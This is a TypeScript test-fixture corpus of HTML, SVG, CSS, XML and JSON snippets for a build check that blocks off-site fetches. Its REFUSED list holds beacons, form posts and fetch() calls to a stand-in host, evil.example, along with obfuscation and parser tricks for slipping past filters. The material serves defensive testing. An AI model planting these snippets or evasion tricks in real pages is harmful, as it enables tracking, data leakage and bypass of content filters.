/**
 * The off-site corpus, type by type: every construct of HTML, SVG and CSS
 * that can make a browser fetch, send or navigate by itself (REFUSED: the
 * build must stop), and harmless look-alikes (ALLOWED: the build must pass).
 * Read by the unit test (tests/unit/externalResources.test.ts) and, for the
 * HTML cases, loaded in Chromium without a CSP (tests/deploy/offSiteBrowser.test.ts).
 */
export const SITE = 'https://intra.example.lg.jp';
export const EVIL = 'https://evil.example';
export type Kind = 'html' | 'xml' | 'css' | 'json';

const dataUrl = (mime: string, text: string) => `data:${mime},${encodeURIComponent(text)}`;
const base64Url = (mime: string, text: string) => `data:${mime};base64,${Buffer.from(text).toString('base64')}`;

/** [construct, kind, source, expected "use via" prefix]. Every source reaches evil.example or runs code. */
export const REFUSED: Array<[string, Kind, string, string]> = [
  // HTML: elements that load
  ['script src', 'html', `<script src="${EVIL}/a.js"></script>`, 'load <script src>'],
  ['img src', 'html', `<img src="${EVIL}/a.png">`, 'load <img src>'],
  ['img srcset', 'html', `<img src="/a.png" srcset="/a.png 1x, ${EVIL}/b.png 2x">`, 'load <img srcset>'],
  ['img srcset holding a data: SVG', 'html', `<img srcset="${dataUrl('image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg"><image href="${EVIL}/a.png"/></svg>`)} 1x">`, 'load <img srcset> data:image/svg+xml › <image href>'],
  ['picture source srcset', 'html', `<picture><source srcset="${EVIL}/c.webp"><img src="/c.png"></picture>`, 'load <source srcset>'],
  ['video src', 'html', `<video src="${EVIL}/v.mp4"></video>`, 'load <video src>'],
  ['video poster', 'html', `<video poster="${EVIL}/p.jpg"></video>`, 'load <video poster>'],
  ['audio src', 'html', `<audio src="${EVIL}/a.mp3"></audio>`, 'load <audio src>'],
  ['source src', 'html', `<video><source src="${EVIL}/v.webm"></video>`, 'load <source src>'],
  ['track src', 'html', `<video><track src="${EVIL}/t.vtt"></video>`, 'load <track src>'],
  ['iframe src', 'html', `<iframe src="${EVIL}/x"></iframe>`, 'load <iframe src>'],
  ['frame src', 'html', `<frameset><frame src="${EVIL}/x"></frameset>`, 'load <frame src>'],
  ['embed src', 'html', `<embed src="${EVIL}/e.swf">`, 'load <embed src>'],
  ['object data', 'html', `<object data="${EVIL}/d.pdf"></object>`, 'load <object data>'],
  ['object codebase', 'html', `<object codebase="${EVIL}/"></object>`, 'load <object codebase>'],
  ['applet code', 'html', `<applet code="${EVIL}/A.class"></applet>`, 'load <applet code>'],
  ['input type=image', 'html', `<input type="image" src="${EVIL}/i.png">`, 'load <input src>'],
  ['html manifest', 'html', `<html manifest="${EVIL}/m.appcache"></html>`, 'load <html manifest>'],
  ['body background', 'html', `<body background="${EVIL}/bg.png"></body>`, 'load <body background>'],
  ['table background', 'html', `<table background="${EVIL}/t.png"><tr><td>x</td></tr></table>`, 'load <table background>'],
  ['td background', 'html', `<table><tr><td background="${EVIL}/c.png">x</td></tr></table>`, 'load <td background>'],
  ['img lowsrc (old browsers)', 'html', `<img lowsrc="${EVIL}/l.png">`, 'load <img lowsrc>'],
  ['img dynsrc (old IE/Edge)', 'html', `<img dynsrc="${EVIL}/d.avi">`, 'load <img dynsrc>'],
  ['bgsound src (old IE/Edge)', 'html', `<bgsound src="${EVIL}/s.mid">`, 'load <bgsound src>'],
  ['protocol-relative URL', 'html', `<img src="//evil.example/a.png">`, 'load <img src>'],
  ['backslashes read as slashes', 'html', `<img src="\\\\evil.example\\a.png">`, 'load <img src>'],
  ['file: URL (a share)', 'html', `<img src="file://evil.example/share/a.png">`, 'load <img src>'],
  ['entity-encoded URL', 'html', `<img src="&#x68;ttps://evil.example/a.png">`, 'load <img src>'],
  ['unquoted attribute', 'html', `<img src=${EVIL}/a.png>`, 'load <img src>'],
  // <link>: every rel that fetches, and any rel the table does not know
  ...['stylesheet', 'icon', 'shortcut icon', 'apple-touch-icon', 'mask-icon', 'manifest', 'preload', 'modulepreload', 'prefetch', 'prerender', 'preconnect', 'dns-prefetch', 'search', 'import', 'pingback', 'compression-dictionary', 'expect', 'alternate stylesheet', 'made-up-rel', ''].map(
    (rel): [string, Kind, string, string] => [`link rel="${rel}"`, 'html', `<link rel="${rel}" href="${EVIL}/x">`, 'load <link href>'],
  ),
  ['link imagesrcset', 'html', `<link rel="preload" as="image" href="/a.png" imagesrcset="${EVIL}/a.png 2x">`, 'load <link imagesrcset>'],
  ['link without rel', 'html', `<link href="${EVIL}/x.css">`, 'load <link href>'],
  // hidden places
  ['inside <pre>', 'html', `<pre><img src="${EVIL}/a.png"></pre>`, 'load <img src>'],
  ['inside <template>', 'html', `<template><img src="${EVIL}/a.png"></template>`, 'load <img src>'],
  ['inside <noscript>', 'html', `<noscript><img src="${EVIL}/a.png"></noscript>`, 'load <img src>'],
  ['inside <noscript> in head', 'html', `<head><noscript><link rel="stylesheet" href="${EVIL}/a.css"></noscript></head>`, 'load <link href>'],
  ['after a <noscript> that ends in an attribute', 'html', `<noscript><p title="</noscript><img src=${EVIL}/a.png>"></noscript>`, 'load <img src>'],
  ['inside <textarea>-looking comment trick', 'html', `<!--><img src="${EVIL}/a.png">-->`, 'load <img src>'],
  // nested documents
  ['iframe srcdoc', 'html', `<iframe srcdoc="<img src=&quot;${EVIL}/a.png&quot;>"></iframe>`, 'load <iframe srcdoc> › <img src>'],
  ['srcdoc inside srcdoc', 'html', `<iframe srcdoc="<iframe srcdoc='<img src=${EVIL}/a.png>'></iframe>"></iframe>`, 'load <iframe srcdoc> › <iframe srcdoc> › <img src>'],
  ['data: HTML in iframe', 'html', `<iframe src="${dataUrl('text/html', `<img src="${EVIL}/a.png">`)}"></iframe>`, 'load <iframe src> data:text/html › <img src>'],
  ['base64 data: HTML in object', 'html', `<object data="${base64Url('text/html', `<script src="${EVIL}/a.js"></script>`)}"></object>`, 'load <object data> data:text/html › <script src>'],
  ['data: SVG image with a reference', 'html', `<img src="${dataUrl('image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg"><image href="${EVIL}/a.png"/></svg>`)}">`, 'load <img src> data:image/svg+xml › <image href>'],
  ['data: CSS stylesheet', 'html', `<link rel="stylesheet" href="${dataUrl('text/css', `@import "${EVIL}/b.css";`)}">`, 'load <link href> data:text/css › CSS @import'],
  ['data: inside data:', 'html', `<iframe src="${dataUrl('text/html', `<iframe src="${dataUrl('text/html', `<img src="${EVIL}/a.png">`)}"></iframe>`)}"></iframe>`, 'load <iframe src> data:text/html › <iframe src> data:text/html › <img src>'],
  // CSS in HTML
  ['<style> url()', 'html', `<style>body{background:url(${EVIL}/bg.png)}</style>`, 'load <style> background'],
  ['<style> @import string', 'html', `<style>@import "${EVIL}/a.css";</style>`, 'load <style> @import'],
  ['style attribute url()', 'html', `<div style="background-image:url('${EVIL}/d.png')"></div>`, 'load <div style> background-image'],
  ['style attribute image-set()', 'html', `<div style="background-image:image-set('${EVIL}/a.png' 1x)"></div>`, 'load <div style> background-image'],
  ['-webkit-image-set()', 'html', `<div style="background:-webkit-image-set('${EVIL}/a.png' 1x)"></div>`, 'load <div style> background'],
  ['escaped url name', 'html', `<div style="background:\\75rl(${EVIL}/a.png)"></div>`, 'load <div style> background'],
  ['CSS escapes inside the URL', 'html', `<style>a{background:url("\\68ttps://evil.example/a.png")}</style>`, 'load <style> background'],
  // sending and moving
  ['a ping', 'html', `<a href="/x/" ping="/count ${EVIL}/track">x</a>`, 'send <a ping>'],
  ['area ping', 'html', `<map><area href="/x/" ping="${EVIL}/t"></map>`, 'send <area ping>'],
  ['form action', 'html', `<form action="${EVIL}/collect"><input name="q"></form>`, 'send <form action>'],
  ['button formaction', 'html', `<form><button formaction="${EVIL}/c">x</button></form>`, 'send <button formaction>'],
  ['input formaction', 'html', `<form><input type="submit" formaction="${EVIL}/c"></form>`, 'send <input formaction>'],
  ['meta refresh', 'html', `<meta http-equiv="refresh" content="0; url=${EVIL}/">`, 'refresh <meta http-equiv=refresh>'],
  ['meta refresh, odd spelling', 'html', `<meta http-equiv="Refresh" content="3;URL='${EVIL}/'">`, 'refresh <meta http-equiv=refresh>'],
  ['meta msapplication-config', 'html', `<meta name="msapplication-config" content="${EVIL}/browserconfig.xml">`, 'load <meta name=msapplication-config>'],
  ['base href', 'html', `<base href="${EVIL}/">`, 'base <base href>'],
  ['relative URL under an off-site base', 'html', `<base href="${EVIL}/"><img src="a.png">`, 'load <img src> a.png'],
  // code
  ['inline script', 'html', `<script>fetch('${EVIL}/x')</script>`, 'code <script>'],
  ['inline module script', 'html', `<script type="module">import('${EVIL}/x.js')</script>`, 'code <script>'],
  ['event handler', 'html', `<img src="/a.png" onerror="new Image().src='${EVIL}'">`, 'code <img onerror>'],
  ['javascript: URL', 'html', `<a href="javascript:fetch('${EVIL}')">x</a>`, 'code <a href>'],
  ['javascript: with a newline in the scheme', 'html', `<iframe src="java\nscript:alert(1)"></iframe>`, 'code <iframe src>'],
  // SVG inside HTML
  ['svg image href', 'html', `<svg><image href="${EVIL}/a.png"/></svg>`, 'load <svg image href>'],
  ['svg image xlink:href', 'html', `<svg><image xlink:href="${EVIL}/a.png"/></svg>`, 'load <svg image xlink:href>'],
  ['svg use href', 'html', `<svg><use href="${EVIL}/s.svg#i"/></svg>`, 'load <svg use href>'],
  ['svg feImage href', 'html', `<svg><filter><feImage href="${EVIL}/a.png"/></filter></svg>`, 'load <svg feimage href>'],
  ['svg script href', 'html', `<svg><script href="${EVIL}/a.js"></script></svg>`, 'load <svg script href>'],
  ['svg set href', 'html', `<svg><set href="${EVIL}/x#y" attributeName="x" to="1"/></svg>`, 'load <svg set href>'],
  ['svg set to= on an href', 'html', `<svg><a href="/"><set attributeName="href" to="${EVIL}/"/></a></svg>`, 'load <svg set to (href)>'],
  ['svg animate values= on xlink:href', 'html', `<svg><image><animate attributeName="xlink:href" values="/a.png;${EVIL}/b.png"/></image></svg>`, 'load <svg animate values (href)>'],
  ['svg fill url()', 'html', `<svg><rect fill="url(${EVIL}/p.svg#g)"/></svg>`, 'load <svg rect fill>'],
  ['svg mask url()', 'html', `<svg><rect mask="url(${EVIL}/m.svg#m)"/></svg>`, 'load <svg rect mask>'],
  ['svg filter url()', 'html', `<svg><rect filter="url(${EVIL}/f.svg#f)"/></svg>`, 'load <svg rect filter>'],
  ['svg clip-path url()', 'html', `<svg><rect clip-path="url(${EVIL}/c.svg#c)"/></svg>`, 'load <svg rect clip-path>'],
  ['svg marker-end url()', 'html', `<svg><path marker-end="url(${EVIL}/m.svg#m)"/></svg>`, 'load <svg path marker-end>'],
  ['svg cursor url()', 'html', `<svg><rect cursor="url(${EVIL}/c.cur), auto"/></svg>`, 'load <svg rect cursor>'],
  ['svg style element', 'html', `<svg><style>rect{fill:url(${EVIL}/p#g)}</style></svg>`, 'load <svg style> fill'],
  ['svg gradient href', 'html', `<svg><linearGradient href="${EVIL}/g.svg#g"/></svg>`, 'load <svg lineargradient href>'],
  ['svg inline script', 'html', `<svg><script>fetch('${EVIL}')</script></svg>`, 'code <svg script>'],
  ['svg onload', 'html', `<svg onload="fetch('${EVIL}')"></svg>`, 'code <svg onload>'],
  // standalone SVG / XML files (read with an XML parser, as browsers do)
  ['SVG file image href', 'xml', `<svg xmlns="http://www.w3.org/2000/svg"><image href="${EVIL}/a.png"/></svg>`, 'load <image href>'],
  ['SVG file, any xlink prefix', 'xml', `<svg xmlns="http://www.w3.org/2000/svg" xmlns:q="http://www.w3.org/1999/xlink"><use q:href="${EVIL}/s.svg#a"/></svg>`, 'load <use q:href>'],
  ['SVG file CDATA style', 'xml', `<svg xmlns="http://www.w3.org/2000/svg"><style><![CDATA[rect{fill:url(${EVIL}/g#g)}]]></style></svg>`, 'load <style> fill'],
  ['SVG file foreignObject HTML', 'xml', `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}/a.png"/></foreignObject></svg>`, 'load <img src>'],
  ['SVG file, XML entity', 'xml', `<!DOCTYPE svg [<!ENTITY e "${EVIL}/a.png">]><svg xmlns="http://www.w3.org/2000/svg"><image href="&e;"/></svg>`, 'unreadable <!ENTITY>'],
  ['xml-stylesheet instruction', 'xml', `<?xml-stylesheet type="text/css" href="${EVIL}/a.css"?><svg xmlns="http://www.w3.org/2000/svg"/>`, 'load <?xml-stylesheet href>'],
  ['xml:base', 'xml', `<svg xmlns="http://www.w3.org/2000/svg" xml:base="${EVIL}/"><image href="a.png"/></svg>`, 'base <svg xml:base>'],
  ['XHTML title is not raw text in XML', 'xml', `<html xmlns="http://www.w3.org/1999/xhtml"><head><title><img src="${EVIL}/a.png"/></title></head></html>`, 'load <img src>'],
  ['feed item HTML', 'xml', `<rss><channel><item><description>&lt;img src="${EVIL}/a.png"&gt;</description></item></channel></rss>`, 'load <description> › <img src>'],
  ['feed content:encoded CDATA', 'xml', `<rss><channel><item><content:encoded><![CDATA[<img src="${EVIL}/a.png">]]></content:encoded></item></channel></rss>`, 'load <content:encoded> › <img src>'],
  ['feed channel image', 'xml', `<rss><channel><image><url>${EVIL}/logo.png</url></image></channel></rss>`, 'load <url>'],
  ['feed enclosure', 'xml', `<rss><channel><item><enclosure url="${EVIL}/a.mp3" type="audio/mpeg"/></item></channel></rss>`, 'load <enclosure url>'],
  // stylesheets
  ['CSS url()', 'css', `a{background:url(${EVIL}/a.png)}`, 'load CSS background'],
  ['CSS @import url()', 'css', `@import url(${EVIL}/a.css);`, 'load CSS @import'],
  ['CSS @import string with layer', 'css', `@import "${EVIL}/a.css" layer(x) supports(display:grid);`, 'load CSS @import'],
  ['CSS @font-face src', 'css', `@font-face{font-family:x;src:url(${EVIL}/x.woff2) format("woff2")}`, 'load CSS src'],
  ['CSS src() function', 'css', `@font-face{font-family:x;src:src("${EVIL}/x.woff2")}`, 'load CSS src'],
  ['CSS image-set() string', 'css', `a{background-image:image-set("${EVIL}/a.png" 1x,"/b.png" 2x)}`, 'load CSS background-image'],
  ['CSS cursor', 'css', `a{cursor:url(${EVIL}/c.cur),auto}`, 'load CSS cursor'],
  ['CSS list-style-image', 'css', `ul{list-style-image:url(${EVIL}/b.png)}`, 'load CSS list-style-image'],
  ['CSS mask-image', 'css', `a{mask-image:url(${EVIL}/m.svg)}`, 'load CSS mask-image'],
  ['CSS border-image', 'css', `a{border-image:url(${EVIL}/b.png) 30}`, 'load CSS border-image'],
  ['CSS content', 'css', `a::after{content:url(${EVIL}/c.png)}`, 'load CSS content'],
  ['CSS custom property', 'css', `:root{--bg:url(${EVIL}/a.png)}`, 'load CSS --bg'],
  ['CSS behavior (old IE/Edge)', 'css', `a{behavior:url(${EVIL}/x.htc)}`, 'load CSS behavior'],
  ['CSS @counter-style symbol image', 'css', `@counter-style x{system:cyclic;symbols:url(${EVIL}/s.png)}`, 'load CSS symbols'],
  ['CSS in an @media block', 'css', `@media print{a{background:url(${EVIL}/p.png)}}`, 'load CSS background'],
  ['CSS escaped url( in a broken value', 'css', `a{background:\\75rl(${EVIL}/a.png) !important !x}`, 'load CSS'],
  // manifests and JSON
  ['manifest icon', 'json', `{"icons":[{"src":"${EVIL}/i.png"}]}`, 'load JSON icons[0].src'],
  ['manifest start_url', 'json', `{"start_url":"${EVIL}/"}`, 'load JSON start_url'],
  ['broken JSON', 'json', `{"icons":`, 'unreadable JSON'],
];

/** Harmless constructs that must build. */
export const ALLOWED: Array<[string, Kind, string]> = [
  ['ordinary link to another site', 'html', `<a href="${EVIL}/">x</a>`],
  ['svg link to another site', 'html', `<svg><a href="${EVIL}/"><text>x</text></a></svg>`],
  ['canonical and alternate links', 'html', `<link rel="canonical" href="${EVIL}/"><link rel="alternate" type="application/rss+xml" href="${EVIL}/f.xml"><link rel="license author" href="${EVIL}/l">`],
  ['on-site resources', 'html', `<link rel="stylesheet" href="/mayor/_astro/a.css"><script type="module" src="${SITE}/mayor/_astro/b.js"></script><img src="../a.png">`],
  ['URL in text', 'html', `<p>${EVIL}/in-text.js is text</p><pre>&lt;img src="${EVIL}/a.png"&gt;</pre>`],
  ['URL in a comment', 'html', `<!-- <img src="${EVIL}/a.png"> -->`],
  ['URL in textarea, title, xmp (raw text)', 'html', `<textarea><img src="${EVIL}/a.png"></textarea><title><img src="${EVIL}/b.png"></title>`],
  ['JSON data block', 'html', `<script type="application/ld+json">{"url":"${EVIL}/"}</script>`],
  ['fragment-only SVG references', 'html', `<svg><use href="#icon"/><rect fill="url(#grad)" transform="translate(1 2)"/></svg>`],
  ['data: image', 'html', `<img src="data:image/png;base64,iVBORw0KGgo=">`],
  ['relative URL inside a data: document', 'html', `<iframe src="${dataUrl('text/html', '<img src="a.png">')}"></iframe>`],
  ['same-origin form and refresh', 'html', `<form action="/mayor/search/"></form><meta http-equiv="refresh" content="5">`],
  ['mailto and tel', 'html', `<a href="mailto:a@example.jp">m</a><a href="tel:0559">t</a>`],
  ['CSS @namespace', 'css', `@namespace svg url(http://www.w3.org/2000/svg); a{color:red}`],
  ['CSS on-site url', 'css', `a{background:url(/mayor/a.png)}`],
  ['SVG file with namespace declarations', 'xml', `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><path d="M0 0" fill="url(#a)"/></svg>`],
  ['feed with on-site links', 'xml', `<rss><channel><link>${SITE}/mayor/</link><item><description>本文 &lt;a href="${EVIL}/"&gt;x&lt;/a&gt;</description></item></channel></rss>`],
  ['manifest with on-site icons', 'json', `{"name":"裾野","icons":[{"src":"/mayor/i.png"}],"note":"Note: text"}`],
];

